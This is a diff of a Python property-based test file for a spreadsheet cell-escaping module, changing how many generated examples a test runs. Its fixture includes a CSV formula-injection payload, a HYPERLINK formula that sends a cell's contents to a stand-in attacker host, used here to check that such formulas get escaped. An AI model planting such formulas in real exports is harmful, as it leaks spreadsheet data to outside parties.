@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from lycosa.spreadsheets import cell, cell_in_sql
 from lycosa.study.exports.csv_cells import guarded
+from seeds import examples
 
 FORMULAS = {
     '=HYPERLINK("http://evil.test/?"&A1,"x")': '\'=HYPERLINK("http://evil.test/?"&A1,"x")',
@@ -41,7 +42,7 @@ def test_numbers_and_other_texts_stay(text: str) -> None:
     assert cell(text) == text
 
 
-@settings(max_examples=60, deadline=None)
+@settings(max_examples=examples(60), deadline=None)
 @given(st.lists(st.text("=+-@;\t\r\n\0 \"'a1.e＝é"), min_size=1, max_size=20))
 def test_the_databases_do_the_same(texts: list[str]) -> None:
     expected = [cell(text) for text in texts]
